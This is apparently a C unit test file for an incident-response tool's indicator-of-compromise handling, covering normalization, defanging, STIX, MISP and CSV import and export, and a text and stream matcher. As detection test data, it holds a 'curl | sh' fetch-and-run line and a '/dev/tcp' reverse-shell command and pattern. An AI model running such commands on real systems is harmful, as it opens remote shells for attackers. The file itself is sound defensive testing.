/*
 * IOC values, import and export, the compiled matcher, and the register
 * in a case.
 */
#include <time.h>

#include "unit.h"

#include "hunt/hunt-int.h"

static char *
norm(enum irt_ioc_type *t, const char *v)
{
	struct irt_buf b = IRT_BUF_INIT;

	if (irt_ioc_normalize(&b, t, v) != 0) {
		irt_buf_release(&b);
		return NULL;
	}
	return irt_buf_detach(&b);
}

static void
check(const char *in, enum irt_ioc_type want, const char *canon)
{
	enum irt_ioc_type t = IRT_IOC_NONE;
	char *v = norm(&t, in);

	if (v == NULL)
		fail_msg("'%s' refused: %s", in, irt_error_last());
	assert_int_equal(t, want);
	assert_string_equal(v, canon);
	free(v);
}

static void
refused(enum irt_ioc_type t, const char *in, int code, const char *why)
{
	char *v = norm(&t, in);

	assert_null(v);
	assert_int_equal(irt_error_code(), code);
	if (strstr(irt_error_last(), why) == NULL)
		fail_msg(
		    "'%s': expected '%s' in '%s'", in, why, irt_error_last());
}

static void
test_detect(void **state)
{
	(void)state;
	check("203.0.113.9", IRT_IOC_IPV4, "203.0.113.9");
	check(" 203.0.113[.]9 ", IRT_IOC_IPV4, "203.0.113.9");
	check("2001:DB8::1", IRT_IOC_IPV6, "2001:db8::1");
	check("10.1.2.3/8", IRT_IOC_CIDR, "10.0.0.0/8");
	check("2001:db8::ff/32", IRT_IOC_CIDR, "2001:db8::/32");
	check("Evil[.]Example.", IRT_IOC_DOMAIN, "evil.example");
	check("hxxp://evil[.]example/Path?q=1", IRT_IOC_URL,
	    "http://evil.example/Path?q=1");
	check("HXXPS://EVIL(.)EXAMPLE:8443/A", IRT_IOC_URL,
	    "https://evil.example:8443/A");
	check("Ann[@]Evil[.]example", IRT_IOC_EMAIL, "ann@evil.example");
	check("0123456789ABCDEF0123456789ABCDEF", IRT_IOC_MD5,
	    "0123456789abcdef0123456789abcdef");
	check("0123456789abcdef0123456789abcdef01234567", IRT_IOC_SHA1,
	    "0123456789abcdef0123456789abcdef01234567");
	check("/tmp/.x/*", IRT_IOC_PATH, "/tmp/.x/*");
}

static void
test_detect_text(void **state)
{
	enum irt_ioc_type t;
	char *v;

	(void)state;
	/* a string with spaces and a URL inside is not a URL */
	t = IRT_IOC_NONE;
	assert_null(norm(&t, "curl http://x | sh"));
	t = IRT_IOC_STRING;
	v = norm(&t, "curl http://x | sh");
	assert_string_equal(v, "curl http://x | sh");
	free(v);
	t = IRT_IOC_NONE;
	v = norm(&t, "beacon every minute");
	assert_int_equal(t, IRT_IOC_STRING);
	free(v);
}

static void
test_refused(void **state)
{
	(void)state;
	refused(IRT_IOC_NONE, "999.1.1.1", IRT_EINVAL, "999 is out of range");
	refused(IRT_IOC_IPV4, "1.2.3", IRT_EINVAL, "not a valid ipv4");
	refused(IRT_IOC_NONE, "01.2.3.4", IRT_EINVAL, "leading zero");
	refused(IRT_IOC_NONE,
	    "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcde",
	    IRT_EINVAL, "63 hex digits");
	refused(IRT_IOC_SHA256,
	    "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcde",
	    IRT_EINVAL, "63 hex digits, 64 expected");
	refused(IRT_IOC_MD5, "0123456789abcdef0123456789abcdeg", IRT_EINVAL,
	    "not a hex digit");
	refused(IRT_IOC_NONE, "backdoor", IRT_EAMBIGUOUS,
	    "filename, a user or a string");
	refused(IRT_IOC_NONE, "payload.sh", IRT_EAMBIGUOUS,
	    "a domain or a filename");
	refused(IRT_IOC_CIDR, "10.0.0.0/33", IRT_EINVAL, "0 to 32");
	refused(IRT_IOC_DOMAIN, "-bad.example", IRT_EINVAL, "'-'");
	refused(IRT_IOC_DOMAIN, "localhost", IRT_EINVAL, "two labels");
	refused(IRT_IOC_URL, "http:///x", IRT_EINVAL, "no host");
	refused(IRT_IOC_STRING, "ab", IRT_EINVAL, "shorter than 4");
	refused(IRT_IOC_STRING, "a\x1b[31mb", IRT_EINVAL, "control");
	refused(IRT_IOC_REGEX, "a(b", IRT_EINVAL, "not a valid regex");
	refused(IRT_IOC_FILENAME, "a/b", IRT_EINVAL, "holds '/'");
}

static void
test_defang(void **state)
{
	struct irt_buf b = IRT_BUF_INIT;

	(void)state;
	irt_ioc_defang(&b, IRT_IOC_URL, "http://evil.example/x");
	assert_string_equal(b.ptr, "hxxp://evil[.]example/x");
	irt_ioc_defang(&b, IRT_IOC_EMAIL, "a@b.example");
	assert_string_equal(b.ptr, "a[@]b[.]example");
	irt_ioc_defang(&b, IRT_IOC_SHA1, "abc");
	assert_string_equal(b.ptr, "abc");
	irt_buf_release(&b);
}

static void
test_stix_pattern(void **state)
{
	struct irt_ioc_set s = IRT_IOC_SET_INIT;

	(void)state;
	assert_int_equal(irt_stix_pattern_parse(&s,
	                     "[ipv4-addr:value = '198.51.100.0/24' OR "
	                     "url:value='http://x.example/it\\'s'] OR "
	                     "[file:hashes.'SHA-1' = "
	                     "'0123456789ABCDEF0123456789abcdef01234567']",
	                     "d", NULL),
	    0);
	assert_int_equal(s.n, 3);
	assert_int_equal(s.v[0].type, IRT_IOC_CIDR);
	assert_string_equal(s.v[1].value, "http://x.example/it's");
	assert_int_equal(s.v[2].type, IRT_IOC_SHA1);
	assert_string_equal(
	    s.v[2].value, "0123456789abcdef0123456789abcdef01234567");
	/* all or nothing, with the offset of what is not supported */
	assert_int_equal(irt_stix_pattern_parse(&s,
	                     "[domain-name:value = 'a.example' AND "
	                     "ipv4-addr:value = '1.2.3.4']",
	                     NULL, NULL),
	    IRT_EINVAL);
	assert_non_null(strstr(irt_error_last(), "AND at offset"));
	assert_int_equal(s.n, 3);
	assert_int_equal(
	    irt_stix_pattern_parse(&s, "[process:name = 'x']", NULL, NULL),
	    IRT_EINVAL);
	assert_non_null(strstr(irt_error_last(), "'process:name'"));
	assert_int_equal(irt_stix_pattern_parse(
	                     &s, "[url:value = 'unterminated]", NULL, NULL),
	    IRT_EINVAL);
	assert_int_equal(
	    irt_stix_pattern_parse(&s, "[url:value != 'x']", NULL, NULL),
	    IRT_EINVAL);
	assert_int_equal(s.n, 3);
	irt_ioc_set_release(&s);
}

struct warns {
	char msgs[16][512];
	size_t n;
};

static void
collect_warn(const char *msg, void *arg)
{
	struct warns *w = arg;

	if (w->n < 16)
		snprintf(w->msgs[w->n++], 512, "%s", msg);
}

static bool
has_warn(const struct warns *w, const char *s)
{
	size_t i;

	for (i = 0; i < w->n; i++)
		if (strstr(w->msgs[i], s) != NULL)
			return true;
	return false;
}

static void
data_path(char *out, size_t n, const char *name)
{
	const char *src = getenv("IRT_SRC");

	snprintf(out, n, "%s/tests/data/hunt/%s", src ? src : ".", name);
}

static void
test_import_misp(void **state)
{
	struct irt_ioc_set s = IRT_IOC_SET_INIT;
	struct warns w = { .n = 0 };
	char p[4096];
	size_t skipped = 0;

	(void)state;
	data_path(p, sizeof p, "misp-event.json");
	assert_int_equal(irt_ioc_import_file(&s, p, IRT_IOC_FMT_AUTO, "misp",
	                     collect_warn, &w, &skipped),
	    0);
	/* ip, domain, filename and sha1 of the composite, the object's url */
	assert_int_equal(s.n, 5);
	assert_true(irt_ioc_set_find(&s, IRT_IOC_IPV4, "203.0.113.9") >= 0);
	assert_true(irt_ioc_set_find(&s, IRT_IOC_FILENAME, "dropper.bin") >= 0);
	assert_true(
	    irt_ioc_set_find(&s, IRT_IOC_URL, "http://evil.example/p") >= 0);
	/* to_ids false is left out */
	assert_true(irt_ioc_set_find(&s, IRT_IOC_MD5,
	                "0123456789abcdef0123456789abcdef") < 0);
	assert_int_equal(skipped, 2);
	assert_true(has_warn(&w, "$.Event.Attribute[2]: 'not-a-hash'"));
	assert_true(has_warn(&w, "$.Event.Attribute[5]: IOC type 'mutex'"));
	assert_true(has_warn(&w, "1 attributes with to_ids false"));
	assert_string_equal(s.v[0].description, "c2");
	assert_string_equal(s.v[0].source, "misp");
	irt_ioc_set_release(&s);
}

static void
test_import_stix(void **state)
{
	struct irt_ioc_set s = IRT_IOC_SET_INIT;
	struct warns w = { .n = 0 };
	char p[4096];
	size_t skipped = 0;

	(void)state;
	data_path(p, sizeof p, "stix-bundle.json");
	assert_int_equal(irt_ioc_import_file(&s, p, IRT_IOC_FMT_AUTO, NULL,
	                     collect_warn, &w, &skipped),
	    0);
	assert_int_equal(s.n, 4);
	assert_int_equal(skipped, 2);
	assert_true(has_warn(&w, "$.objects[2].pattern: STIX pattern: AND"));
	assert_true(has_warn(&w, "$.objects[3]: pattern_type 'sigma'"));
	assert_string_equal(s.v[0].description, "c2 addresses");
	irt_ioc_set_release(&s);
}

static void
test_import_csv_plain(void **state)
{
	struct irt_ioc_set s = IRT_IOC_SET_INIT;
	struct warns w = { .n = 0 };
	char p[4096];
	size_t skipped = 0;

	(void)state;
	data_path(p, sizeof p, "iris-iocs.csv");
	assert_int_equal(irt_ioc_import_file(&s, p, IRT_IOC_FMT_AUTO, NULL,
	                     collect_warn, &w, &skipped),
	    0);
	assert_int_equal(s.n, 2);
	assert_string_equal(
	    s.v[0].description, "C2 domain, seen in proxy logs");
	assert_string_equal(s.v[0].tlp, "amber");
	assert_int_equal(s.v[1].type, IRT_IOC_CIDR);
	assert_int_equal(skipped, 2);
	assert_true(has_warn(&w, "iris-iocs.csv:4: '999.1.1.1'"));
	assert_true(has_warn(&w, "iris-iocs.csv:5: no value"));
	irt_ioc_set_release(&s);

	w.n = 0;
	data_path(p, sizeof p, "plain.txt");
	assert_int_equal(irt_ioc_import_file(&s, p, IRT_IOC_FMT_AUTO, NULL,
	                     collect_warn, &w, &skipped),
	    0);
	assert_int_equal(s.n, 3);
	assert_int_equal(skipped, 2);
	assert_true(has_warn(&w, "plain.txt:5: '0123"));
	assert_true(has_warn(&w, "plain.txt:6: cannot tell the type"));
	irt_ioc_set_release(&s);

	/* not JSON at all: the whole document is refused */
	assert_int_equal(irt_ioc_import(&s, "{\"Event\": [", 11, "x.json",
	                     IRT_IOC_FMT_AUTO, NULL, NULL, NULL, NULL),
	    IRT_EPARSE);
	assert_int_equal(irt_ioc_import(&s, "a,b\n1,2\n", 8, "x.csv",
	                     IRT_IOC_FMT_CSV, NULL, NULL, NULL, NULL),
	    IRT_EPARSE);
	irt_ioc_set_release(&s);
}

static void
test_export_roundtrip(void **state)
{
	static const enum irt_ioc_format fmts[] = { IRT_IOC_FMT_CSV,
		IRT_IOC_FMT_MISP, IRT_IOC_FMT_STIX };
	struct irt_ioc_set s = IRT_IOC_SET_INIT, back = IRT_IOC_SET_INIT;
	struct irt_buf b = IRT_BUF_INIT;
	size_t i, k, left;

	(void)state;
	assert_int_equal(irt_ioc_set_add(&s, IRT_IOC_NONE, "evil.example",
	                     "c2, \"main\"", NULL, NULL),
	    0);
	assert_int_equal(irt_ioc_set_add(&s, IRT_IOC_NONE,
	                     "http://evil.example/it's", NULL, NULL, NULL),
	    0);
	assert_int_equal(irt_ioc_set_add(&s, IRT_IOC_NONE, "203.0.113.0/24",
	                     NULL, NULL, NULL),
	    0);
	assert_int_equal(
	    irt_ioc_set_add(&s, IRT_IOC_NONE,
	        "0123456789abcdef0123456789abcdef", NULL, NULL, NULL),
	    0);
	assert_int_equal(
	    irt_ioc_set_add(&s, IRT_IOC_PATH, "/tmp/.x", NULL, NULL, NULL), 0);
	for (k = 0; k < 3; k++) {
		irt_buf_clear(&b);
		assert_int_equal(irt_ioc_export(&b, &s, fmts[k], &left), 0);
		/* STIX and MISP have no path */
		assert_int_equal(left, k == 0 ? 0 : 1);
		assert_int_equal(irt_ioc_import(&back, b.ptr, b.len, "x",
		                     IRT_IOC_FMT_AUTO, NULL, NULL, NULL, NULL),
		    0);
		assert_int_equal(back.n, s.n - left);
		for (i = 0; i < back.n; i++)
			assert_true(irt_ioc_set_find(&s, back.v[i].type,
			                back.v[i].value) >= 0);
		irt_ioc_set_release(&back);
	}
	irt_buf_release(&b);
	irt_ioc_set_release(&s);
}

/* ---- the matcher ---- */

struct got {
	char what[32][128];
	size_t n;
};

static int
on_hit(void *arg, size_t ioc, const char *m, size_t len, uint64_t off)
{
	struct got *g = arg;

	if (g->n < 32)
		snprintf(g->what[g->n++], 128, "%zu:%.*s@%llu", ioc, (int)len,
		    m, (unsigned long long)off);
	return 0;
}

static struct ioc_matcher *
matcher(struct irt_ioc_set *s, const char *const *vals, const int *types)
{
	struct ioc_matcher *m;
	size_t i;

	for (i = 0; vals[i] != NULL; i++)
		assert_int_equal(irt_ioc_set_add(s, (enum irt_ioc_type)types[i],
		                     vals[i], NULL, NULL, NULL),
		    0);
	assert_int_equal(ioc_matcher_new(&m, s), 0);
	return m;
}

static void
test_match_text(void **state)
{
	static const char *const vals[] = { "evil.example", "Secret Token",
		"198.51.100.0/24", "2001:db8::/32", "backdoor", "kworkerd",
		"203.0.113.9", "x.example", NULL };
	static const int types[] = { IRT_IOC_DOMAIN, IRT_IOC_STRING,
		IRT_IOC_CIDR, IRT_IOC_CIDR, IRT_IOC_USER, IRT_IOC_FILENAME,
		IRT_IOC_IPV4, IRT_IOC_DOMAIN };
	struct irt_ioc_set s = IRT_IOC_SET_INIT;
	struct ioc_matcher *m;
	struct got g;
	const char *t;

	(void)state;
	m = matcher(&s, vals, types);
#define SCAN(text)                                                             \
	do {                                                                   \
		memset(&g, 0, sizeof g);                                       \
		t = (text);                                                    \
		assert_int_equal(                                              \
		    ioc_scan_text(m, t, strlen(t), on_hit, &g), 0);            \
	} while (0)
	/* domains: case folded, subdomains match, longer names do not */
	SCAN("GET http://A.EVIL.EXAMPLE/x");
	assert_int_equal(g.n, 1);
	assert_string_equal(g.what[0], "0:EVIL.EXAMPLE@13");
	SCAN("notevil.example evil.example.org evil.examples");
	assert_int_equal(g.n, 0);
	SCAN("end of sentence: evil.example.");
	assert_int_equal(g.n, 1);
	/* strings are exact */
	SCAN("secret token Secret Token");
	assert_int_equal(g.n, 1);
	assert_string_equal(g.what[0], "1:Secret Token@13");
	/* IPs by range, in IPv4 and IPv6, with ports and brackets */
	SCAN("from 198.51.100.23 port 22; 198.51.100.230; 198.51.101.1");
	assert_int_equal(g.n, 2);
	SCAN("[2001:db8::5]:443 and 1.198.51.100.1 and 198.51.100.1.5");
	assert_int_equal(g.n, 1);
	assert_string_equal(g.what[0], "3:2001:db8::5@1");
	/* an IP is matched as a token in events, not as a literal */
	SCAN("203.0.113.9:80 and 203.0.113.99");
	assert_int_equal(g.n, 1);
	/* users and file names as words */
	SCAN("user backdoor2 /usr/bin/backdoor kworkerd.sh ./kworkerd");
	assert_int_equal(g.n, 2);
	ioc_matcher_free(m);
	irt_ioc_set_release(&s);
}

/* Regex IOCs run with PCRE2's limits: a catastrophic pattern costs a
 * bounded time per text and is counted, never hangs the hunt. */
static void
test_match_regex(void **state)
{
	static const char *const vals[] = { "sh -i >& /dev/tcp/[0-9.]+/[0-9]+",
		"(a+)+$", NULL };
	static const int types[] = { IRT_IOC_REGEX, IRT_IOC_REGEX };
	struct irt_ioc_set s = IRT_IOC_SET_INIT;
	struct ioc_matcher *m;
	struct irt_buf b = IRT_BUF_INIT;
	struct got g;
	char *aaa;
	const char *t;
	struct timespec t0, t1;
	enum irt_ioc_type type = IRT_IOC_REGEX;

	(void)state;
	m = matcher(&s, vals, types);
	SCAN("bash -c 'sh -i >& /dev/tcp/203.0.113.9/4444 0>&1'");
	assert_int_equal(g.n, 1);
	assert_string_equal(
	    g.what[0], "0:sh -i >& /dev/tcp/203.0.113.9/4444@9");
	/* non-UTF-8 bytes are only bytes */
	SCAN("\xff\xfe sh -i >& /dev/tcp/1.2.3.4/5");
	assert_int_equal(g.n, 1);
	/* 30,000 a then b: exponential backtracking without limits */
	aaa = malloc(30002);
	assert_non_null(aaa);
	memset(aaa, 'a', 30000);
	aaa[30000] = 'b';
	aaa[30001] = '\0';
	assert_int_equal(ioc_matcher_re_cut(m), 0);
	clock_gettime(CLOCK_MONOTONIC, &t0);
	SCAN(aaa);
	clock_gettime(CLOCK_MONOTONIC, &t1);
	assert_int_equal(g.n, 0);
	assert_int_equal(ioc_matcher_re_cut(m), 1);
	/* generous for ASan on a loaded machine; unbounded takes hours */
	assert_true(t1.tv_sec - t0.tv_sec < 60);
	free(aaa);
	ioc_matcher_free(m);
	irt_ioc_set_release(&s);

	/* patterns the POSIX compiler took exponential time over, refused
	 * or accepted at once; too long a pattern is refused */
	assert_int_not_equal(irt_ioc_normalize(&b, &type,
	                         ";\xff;++++++++++++++++++++++++++++++++++++"
	                         "++++++++++++++++++++++++++++++"),
	    0);
	aaa = malloc(5001);
	assert_non_null(aaa);
	memset(aaa, 'x', 5000);
	aaa[5000] = '\0';
	assert_int_equal(irt_ioc_normalize(&b, &type, aaa), IRT_EINVAL);
	free(aaa);
	irt_buf_release(&b);
}

static void
test_match_stream(void **state)
{
	static const char *const vals[] = { "evil.example", "203.0.113.9",
		"longer needle of forty bytes in a stream", NULL };
	static const int types[] = { IRT_IOC_DOMAIN, IRT_IOC_IPV4,
		IRT_IOC_STRING };
	struct irt_ioc_set s = IRT_IOC_SET_INIT;
	struct ioc_matcher *m;
	struct ioc_stream st;
	struct got g;
	const char *text = "xx evil.example\n203.0.113.9 "
	                   "longer needle of forty bytes in a stream! "
	                   "evil.examples 203.0.113.90";
	size_t n = strlen(text), cut, i;

	(void)state;
	m = matcher(&s, vals, types);
	/* the same hits whatever the chunk sizes */
	for (cut = 1; cut <= n; cut++) {
		memset(&g, 0, sizeof g);
		ioc_stream_init(&st);
		for (i = 0; i < n; i += cut)
			assert_int_equal(
			    ioc_stream_scan(m, &st, text + i,
			        i + cut > n ? n - i : cut, on_hit, &g),
			    0);
		assert_int_equal(
		    ioc_stream_scan(m, &st, NULL, 0, on_hit, &g), 0);
		ioc_stream_release(&st);
		if (g.n != 3)
			fail_msg("chunks of %zu: %zu hits", cut, g.n);
		assert_string_equal(g.what[0], "0:evil.example@3");
		assert_string_equal(g.what[1], "1:203.0.113.9@16");
		assert_string_equal(
		    g.what[2], "2:longer needle of forty bytes in a stream@28");
	}
	ioc_matcher_free(m);
	irt_ioc_set_release(&s);
}

static void
test_match_values(void **state)
{
	static const char *const vals[] = { "c79bf44242829108e323378531f4ac8395"
		                            "13ca1fba45efd6583643526e1e9fd2",
		"/tmp/.x/*", "/usr/bin/kworker", "dropper.bin", "10.0.0.0/8",
		"10.1.0.0/16", "fe80::/10", NULL };
	static const int types[] = { IRT_IOC_SHA256, IRT_IOC_PATH, IRT_IOC_PATH,
		IRT_IOC_FILENAME, IRT_IOC_CIDR, IRT_IOC_CIDR, IRT_IOC_CIDR };
	struct irt_ioc_set s = IRT_IOC_SET_INIT;
	struct ioc_matcher *m;
	struct got g;

	(void)state;
	m = matcher(&s, vals, types);
	memset(&g, 0, sizeof g);
	ioc_match_hash(m, vals[0], 64, on_hit, &g);
	ioc_match_hash(m,
	    "C79BF44242829108E323378531F4AC839513CA1FBA45EFD6583643526E1E9FD2",
	    64, on_hit, &g);
	ioc_match_hash(m, vals[0], 63, on_hit, &g);
	assert_int_equal(g.n, 2);
	memset(&g, 0, sizeof g);
	ioc_match_path(m, "/tmp/.x/a/b", 11, on_hit, &g);
	ioc_match_path(m, "/usr/bin/kworker", 16, on_hit, &g);
	ioc_match_path(m, "/usr/bin/kworkerd", 17, on_hit, &g);
	ioc_match_path(m, "/home/a/dropper.bin", 19, on_hit, &g);
	assert_int_equal(g.n, 3);
	/* nested ranges: both, and an IPv4-mapped address as IPv4 */
	memset(&g, 0, sizeof g);
	ioc_match_ip(m, "10.1.2.3", 8, on_hit, &g);
	assert_int_equal(g.n, 2);
	ioc_match_ip(m, "::ffff:10.200.0.1", 17, on_hit, &g);
	ioc_match_ip(m, "fe80::1", 7, on_hit, &g);
	ioc_match_ip(m, "11.0.0.1", 8, on_hit, &g);
	ioc_match_ip(m, "not an ip", 9, on_hit, &g);
	assert_int_equal(g.n, 4);
	ioc_matcher_free(m);
	irt_ioc_set_release(&s);
}

/* ---- the register ---- */

static void
test_register(void **state)
{
	struct irt_case *c;
	struct irt_case_meta meta = { "INC-1", "t", NULL, NULL, NULL };
	struct irt_ident who = { "Ann", "ann@example.org" };
	struct irt_ioc_set s = IRT_IOC_SET_INIT, got = IRT_IOC_SET_INIT;
	struct irt_ioc one;
	struct irt_buf b = IRT_BUF_INIT, path = IRT_BUF_INIT;
	char *dir = unit_tmpdir(), casedir[4200], id[32];
	size_t added, dups;

	(void)state;
	snprintf(casedir, sizeof casedir, "%s/case", dir);
	assert_int_equal(irt_case_init(&c, casedir, &meta, &who), 0);
	assert_int_equal(irt_ioc_set_add(&s, IRT_IOC_NONE, "evil.example", "c2",
	                     "report", "amber"),
	    0);
	assert_int_equal(
	    irt_ioc_set_add(&s, IRT_IOC_NONE, "203.0.113.9", NULL, NULL, NULL),
	    0);
	assert_int_equal(
	    irt_ioc_register(c, &s, "ioc-add", NULL, &who, &added, &dups), 0);
	assert_int_equal(added, 2);
	assert_int_equal(dups, 0);
	/* one file per IOC, in its day's folder */
	assert_int_equal(
	    hunt_shard_path(&path, IRT_IOC_DIR, s.v[0].id, IRT_IOC_SUFFIX), 0);
	assert_int_equal(strncmp(path.ptr, "iocs/", 5), 0);
	assert_int_equal(path.ptr[9], '/');
	assert_int_equal(irt_case_read(c, &b, path.ptr), 0);
	assert_non_null(strstr(b.ptr, "value = evil.example\n"));
	assert_non_null(strstr(b.ptr, "tlp = amber\n"));
	/* adding again: no new commit, the same ids */
	irt_ioc_set_release(&s);
	assert_int_equal(irt_ioc_set_add(&s, IRT_IOC_NONE, "evil[.]example",
	                     NULL, NULL, NULL),
	    0);
	assert_int_equal(
	    irt_ioc_register(c, &s, "ioc-add", NULL, &who, &added, &dups), 0);
	assert_int_equal(added, 0);
	assert_int_equal(dups, 1);
	snprintf(id, sizeof id, "%s", s.v[0].id);
	assert_int_equal(irt_ioc_load(c, &got, false), 0);
	assert_int_equal(got.n, 2);
	irt_ioc_set_release(&got);
	/* retired: kept, no longer active */
	assert_int_equal(irt_ioc_retire(c, id, "sinkholed", &who, id), 0);
	assert_int_equal(irt_ioc_retire(c, id, "again", &who, id), IRT_EINVAL);
	assert_int_equal(irt_ioc_load(c, &got, false), 0);
	assert_int_equal(got.n, 1);
	irt_ioc_set_release(&got);
	assert_int_equal(irt_ioc_get(c, &one, id), 0);
	assert_true(one.retired);
	assert_string_equal(one.retired_why, "sinkholed");
	irt_ioc_release(&one);
	assert_int_equal(irt_ioc_get(c, &one, "2099"), IRT_ENOTFOUND);
	irt_ioc_set_release(&s);
	irt_buf_release(&b);
	irt_buf_release(&path);
	irt_case_free(c);
	unit_rmtree(dir);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_detect),
		cmocka_unit_test(test_detect_text),
		cmocka_unit_test(test_refused),
		cmocka_unit_test(test_defang),
		cmocka_unit_test(test_stix_pattern),
		cmocka_unit_test(test_import_misp),
		cmocka_unit_test(test_import_stix),
		cmocka_unit_test(test_import_csv_plain),
		cmocka_unit_test(test_export_roundtrip),
		cmocka_unit_test(test_match_text),
		cmocka_unit_test(test_match_regex),
		cmocka_unit_test(test_match_stream),
		cmocka_unit_test(test_match_values),
		cmocka_unit_test(test_register),
	};

	return UNIT_RUN(tests);
}
